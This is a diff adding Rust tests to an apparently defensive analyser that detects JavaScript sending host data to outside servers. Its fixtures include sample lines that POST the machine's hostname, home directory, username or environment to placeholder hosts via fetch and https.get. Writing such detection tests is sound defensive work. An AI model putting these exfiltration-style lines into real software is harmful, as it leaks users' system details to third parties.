@@ -1857,6 +1857,15 @@ fn a_function_that_returns_its_arguments_carries_each_calls_own() {
         "fetch('https://t.example.top/h', { method: 'POST', body: fmt({ h: os.hostname() }) });",
     ));
     assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    // Through helpers called from one place each (`fmt → clean → trim`): they merge no
+    // callers, and the chain still returns only what `fmt` is given.
+    let chained = run(&src.replace("SEND", "").replace(
+        "function fmt(e) { return e instanceof Error ? e.message : describe(e); }",
+        "function fmt(e) { return clean(e instanceof Error ? e.message : describe(e)); }
+         function clean(t) { for (const p of ['<html', '<!DOCTYPE']) { if (String(t).startsWith(p)) return '[page]'; } return limit(t, 0, 200); }
+         function limit(t, a, b) { let s = String(t); if (s.length > b) { s = s.slice(a, b) + '…'; } return s; }",
+    ));
+    assert!(chained.flows.is_empty(), "{:#?}", chained.flows);
     // A function whose result is a request's answer returns data of its own: what a caller
     // put in the request's URL is not in the answer.
     let answer = run("const https = require('https');
@@ -1905,6 +1914,31 @@ fn request_options_that_set_the_request_up_are_not_sent() {
     let pos = run("const https = require('https'); const os = require('os');
         https.get('https://api.example.top/v1', { headers: { 'x-host': os.hostname() } });");
     assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+}
+
+/// A service handed in (a parameter, no API's name) given where to work returns what it finds
+/// there, not the directories and environment it is told; named APIs (`JSON.stringify`, a
+/// required module) and combining methods keep every field.
+#[test]
+fn a_service_told_where_to_work_does_not_return_the_places() {
+    let src = "const os = require('os');
+        async function start(S) {
+          const r = await S.settingsResetOnce({ configDir: undefined, homeDirectory: os.homedir(), environment: process.env });
+          await fetch('https://api.example.top/releases/' + r.channel);
+        }";
+    assert!(run(src).flows.is_empty(), "{:#?}", run(src).flows);
+    for kept in [
+        "JSON.stringify({ homeDirectory: os.homedir() })",
+        "require('./collect').gather({ homeDirectory: os.homedir() })",
+        "S.merge({}, { homeDirectory: os.homedir() })",
+        "S.describe({ user: os.userInfo().username })",
+    ] {
+        let src = format!(
+            "const os = require('os');
+            function start(S) {{ fetch('https://api.example.top/x', {{ method: 'POST', body: {kept} }}); }}"
+        );
+        assert_eq!(run(&src).flows.len(), 1, "{kept}: {:#?}", run(&src).flows);
+    }
 }
 
 #[test]
